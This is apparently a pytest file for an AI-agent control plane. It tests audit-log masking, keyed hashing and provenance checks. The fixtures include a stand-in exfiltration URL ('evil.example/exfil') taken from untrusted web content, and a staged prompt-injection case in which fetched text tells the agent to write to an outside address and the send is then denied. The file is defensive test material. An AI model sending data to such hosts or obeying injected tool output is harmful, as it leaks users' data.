"""Masking rules: JSON Pointer paths (RFC 6901 escapes, list indexes), paths that can never match
refused where they are configured, the paths masked recorded so they read back, and hashed values
keyed with the log's masking key (kept 0600 beside the signing key), so that the log alone does not
let anyone test guesses against them."""

from __future__ import annotations

import hashlib
import json
import re
import stat
from pathlib import Path

import pytest
from pydantic import ValidationError

from router import ControlPlane, InvalidCall
from router.approvals import binding
from router.audit import AuditEvent
from router.audit.base import as_written
from router.audit.checkpoint import SigningKey
from router.audit.jsonl import JsonlAuditLog, LogOptions
from router.audit.masking import load_or_create_key, mask, masked_paths
from router.settings import AuditSettings, MaskRule, Settings
from tests.conftest import python_tool

ARGS = {"a/b": "SECRET1", "t~x": "SECRET2", "cards": ["SECRET3", "keep"], "x,y": "SECRET4", "10": "d"}


def test_a_pointer_escaped_key_is_masked() -> None:
    document = {"input": {"args": ARGS}}
    for path, key in (("/input/args/a~1b", "a/b"), ("/input/args/t~0x", "t~x"), ("/input/args/x,y", "x,y")):
        out, masked = mask(document, [(MaskRule(path=path).path, False)])
        assert out["input"]["args"][key] == "[masked]"
        assert masked_paths(",".join(masked)) == [path]
    out, masked = mask(document, [("/input/args/cards/0", False)])
    assert out["input"]["args"]["cards"] == ["[masked]", "keep"]


@pytest.mark.parametrize("path", ["/input/args/cards/-1", "/input/args/cards/-", "/input/args/a~2b"])
def test_a_path_that_can_never_match_is_refused_where_it_is_configured(path: str) -> None:
    with pytest.raises(ValidationError, match="can never match"):
        MaskRule(path=path)


def test_the_paths_masked_are_recorded_so_that_they_read_back() -> None:
    """``labels.masked`` is a list split on ',': every path in it is one JSON Pointer, whatever the
    keys hold, and one under the input still starts with ``/input/`` (how replay tells a masked input)."""
    event = AuditEvent.model_validate({"decision_id": "d", "timestamp": "2026-11-22T10:00:00.000000Z",
                                       "kind": "decision", "outcome": "allow", "input": {"args": ARGS}})  # fmt: skip
    written, _ = as_written(event, [("/input/args/*", False)])
    label = written.labels["masked"]
    paths = masked_paths(label)
    assert sorted(paths) == sorted(["/input/args/a~1b", "/input/args/t~0x", "/input/args/cards",
                                    "/input/args/x,y", "/input/args/10"])  # fmt: skip
    assert all(path.startswith("/input/") for path in label.split(","))
    assert len(label.split(",")) == len(ARGS)


def test_a_hashed_value_is_keyed_so_the_log_alone_cannot_test_guesses(tmp_path: Path) -> None:
    key = load_or_create_key(tmp_path / "keys" / "audit-mask.key")
    document = {"input": {"args": {"pin": "4821", "again": "4821", "other": "4822"}}}
    rules = [("/input/args/pin", True), ("/input/args/again", True), ("/input/args/other", True)]
    out, _ = mask(document, rules, key)
    args = out["input"]["args"]
    assert args["pin"] == args["again"] != args["other"]  # equal values still join within the log
    assert args["pin"].startswith("hmac-sha256:")
    guesses = {"sha256:" + hashlib.sha256(json.dumps(f"{n:04d}").encode()).hexdigest() for n in range(10_000)}
    assert args["pin"] not in guesses
    assert args["pin"].removeprefix("hmac-sha256:") not in {g.removeprefix("sha256:") for g in guesses}


def test_the_masking_key_is_made_once_private_and_kept(tmp_path: Path) -> None:
    path = tmp_path / "cfg" / "stockade" / "audit-mask.key"
    key = load_or_create_key(path)
    assert len(key) == 32
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert load_or_create_key(path) == key
    path.chmod(0o640)
    with pytest.raises(ValueError, match="chmod 600"):
        load_or_create_key(path)
    path.chmod(0o600)
    path.write_text("not a key\n")
    with pytest.raises(ValueError, match="64 hex characters"):
        load_or_create_key(path)


async def test_no_masked_value_or_key_reaches_the_log_files(tmp_path: Path) -> None:
    key = load_or_create_key(tmp_path / "keys" / "audit-mask.key")
    signer = SigningKey.load_or_create(tmp_path / "keys" / "audit.key")
    log = JsonlAuditLog(tmp_path / "log" / "audit.jsonl", options=LogOptions(signer=signer, checkpoint_interval_s=3600))
    document = {"input": {"args": {"pin": "4821"}}}
    out, masked = mask(document, [("/input/args/pin", True)], key)
    event = AuditEvent.model_validate({"decision_id": "d", "timestamp": "2026-11-22T10:00:00.000000Z",
                                       "kind": "decision", "outcome": "allow", **out,
                                       "labels": {"masked": ",".join(masked)}})  # fmt: skip
    await log.append(event)
    await log.aclose()
    for file in (tmp_path / "log").rglob("*"):
        if file.is_file():
            raw = file.read_bytes()
            assert b"4821" not in raw
            assert key.hex().encode() not in raw


# -- a masked argument, wherever the event carries it -------------------------------------------

MAIL, URL, PIN, BAD_PIN = "secret.person@hidden.example", "https://leak.example/private-doc", "4821", "48x1"


async def test_a_masked_argument_reaches_the_log_through_no_other_field(tmp_path: Path) -> None:
    """A masked argument is masked where provenance read it (input.values, input.provenance), where
    a policy's reason quotes it, in a schema error about it, and in the digests of the call's
    arguments (an approval's binding): each of those gave it back before."""
    settings = Settings(audit=AuditSettings(
        path=tmp_path / "log" / "audit.jsonl", signing_key=tmp_path / "keys" / "audit.key",
        mask=[MaskRule(path="/input/args/body"), MaskRule(path="/input/args/pin", hash=True)],
    ))  # fmt: skip
    async with ControlPlane.from_settings(settings) as plane:
        await plane.register({"name": "read_web", "description": "r", "risk": "low",
                              "capabilities": ["reads_untrusted"], "input_schema": {"type": "object"},
                              "executor": {"kind": "external"}})  # fmt: skip
        await plane.register({
            "name": "send_msg", "description": "s", "risk": "high", "capabilities": ["sends_external"],
            "input_schema": {"type": "object", "properties": {
                "body": {"type": "string"}, "pin": {"type": "string", "pattern": "^[0-9]{4}$"}}},
            "executor": {"kind": "external"}, "content_args": ["body"],
        })  # fmt: skip
        session = await plane.open_session("bot", "alice@example.com", trusted_context=["send my pin"])
        held = await plane.call(session, "send_msg", {"body": f"hi {URL}", "pin": PIN})
        assert held.status == "pending_approval"
        read = await plane.call(session, "read_web", {})
        await plane.report(session, read.call_id, f"write to {MAIL}")
        denied = await plane.call(session, "send_msg", {"body": f"mail {MAIL}", "pin": PIN})
        assert denied.reasons == ["provenance.untrusted_content"]
        with pytest.raises(InvalidCall, match=BAD_PIN):  # the caller is told; the log is not
            await plane.call(session, "send_msg", {"body": "x", "pin": BAD_PIN})

    lines = (tmp_path / "log" / "audit.jsonl").read_text().splitlines()
    events = [json.loads(line) for line in lines]
    sent = [e for e in events if e["tool"] == "send_msg"]
    text = "\n".join(json.dumps(e) for e in sent)
    leaked = [value for value in (URL, "leak.example", MAIL, BAD_PIN, f'"{PIN}"') if value in text]
    assert leaked == []
    [refused] = [e for e in sent if e["kind"] == "error"]
    assert refused["result"]["problems"] == [{"field": "args.pin", "path": ["pin"], "problem": "[masked]"}]
    # The approval's binding digests tool, arguments and session: with the pin's 10,000 values
    # tried, a plain digest gave it back. Keyed, none matches.
    [approval] = [e for e in sent if e["kind"] == "approval"]
    assert approval["result"]["binding"].startswith("hmac-sha256:")
    tried = {binding("send_msg", json.dumps({"body": f"hi {URL}", "pin": f"{n:04d}"}, sort_keys=True,
                                            separators=(",", ":"), ensure_ascii=False), session)
             for n in range(10_000)}  # fmt: skip
    assert not {approval["result"]["binding"], approval["result"]["binding"].removeprefix("hmac-sha256:")} & tried
    decisions = [e for e in sent if e["kind"] == "decision"]
    assert all(e["input"]["values"]["body"] == "[masked]" for e in decisions)


def test_a_masked_value_the_agent_chose_erases_nothing_else_of_the_record() -> None:
    """The agent picks the masked argument's value: naming another argument's host, a word of the
    status or a tool in a source label must not erase those from its own record. Only the result's
    messages lose quotations of it."""
    event = AuditEvent.model_validate({
        "decision_id": "d1", "timestamp": "2026-11-28T10:00:00.000000Z", "kind": "decision", "outcome": "allow",
        "tool": "http_post",
        "input": {"tool": "http_post", "args": {"pin": "evil.example", "url": "https://evil.example/exfil",
                                                "note": "yes allowed"},
                  "values": {"url": [{"key": "u:https://evil.example/exfil", "sources": ["untrusted:web_fetch:c7"]}]},
                  "provenance": {"url": ["untrusted:web_fetch:c7"]}},
        "result": {"allow": True, "status": "yes",
                   "reasons": ["destination evil.example is from untrusted:web_fetch:c7"]},
    })  # fmt: skip
    written, _ = as_written(event, [("/input/args/pin", True), ("/input/args/note", False)], b"k" * 32)
    assert written.input is not None
    assert written.input["args"]["url"] == "https://evil.example/exfil"
    assert written.input["values"]["url"][0]["key"] == "u:https://evil.example/exfil"
    assert written.input["provenance"]["url"] == ["untrusted:web_fetch:c7"]
    assert written.result is not None
    assert written.result["status"] == "yes"
    assert written.result["reasons"] == ["destination [masked] is from untrusted:web_fetch:c7"]
    assert masked_paths(written.labels["masked"]) == [
        "/input/args/pin", "/input/args/note", "/result/reasons/0",
    ]  # fmt: skip


async def test_a_tools_output_is_kept_as_written_unless_a_rule_masks_it_and_then_its_digest_is_keyed(
    tmp_path: Path,
) -> None:
    """A tool that echoes a masked argument puts it in its execution's stdout and stderr: kept as
    the tool wrote it (the docs say so) unless rules mask /result/stdout and /result/stderr, whose
    plain digests would then let anyone test guesses at the output; they are keyed."""
    echo = "import sys\ndef main(card):\n    print('charged', card)\n    print(card, file=sys.stderr)\n    return 1\n"
    for rules in ([MaskRule(path="/input/args/card", hash=True)],
                  [MaskRule(path="/input/args/card", hash=True), MaskRule(path="/result/stdout"),
                   MaskRule(path="/result/stderr")]):  # fmt: skip
        log = tmp_path / str(len(rules)) / "audit.jsonl"
        settings = Settings(audit=AuditSettings(path=log, signing_key=tmp_path / "keys" / "audit.key", mask=rules))
        async with ControlPlane.from_settings(settings) as plane:
            await plane.register(python_tool("charge", echo))
            session = await plane.open_session("bot", "alice@example.com")
            result = await plane.call(session, "charge", {"card": "4111111111111111"})
            assert result.status == "completed"
        [run] = [json.loads(line) for line in log.read_text().splitlines() if '"kind":"execution"' in line]
        if len(rules) == 1:
            assert "4111111111111111" in run["result"]["stdout"] + run["result"]["stderr"]
            assert re.fullmatch("[0-9a-f]{64}", run["result"]["stdout_sha256"])
        else:
            assert "4111111111111111" not in json.dumps(run)
            assert (run["result"]["stdout"], run["result"]["stderr"]) == ("[masked]", "[masked]")
            assert run["result"]["stdout_sha256"].startswith("hmac-sha256:")
            assert run["result"]["stderr_sha256"].startswith("hmac-sha256:")
            assert {"/result/stdout", "/result/stdout_sha256"} <= set(masked_paths(run["labels"]["masked"]))


def test_a_rule_on_an_external_tools_reported_output_keys_its_digest_too() -> None:
    digest = hashlib.sha256(b'{"balance": 1200}').hexdigest()
    document = {"kind": "execution", "result": {"output": {"balance": 1200}, "output_sha256": digest}}
    masked, paths = mask(document, [("/result/output", False)], b"k" * 32)
    assert masked["result"]["output"] == "[masked]"
    assert masked["result"]["output_sha256"].startswith("hmac-sha256:")
    assert {"/result/output", "/result/output_sha256"} <= set(paths)
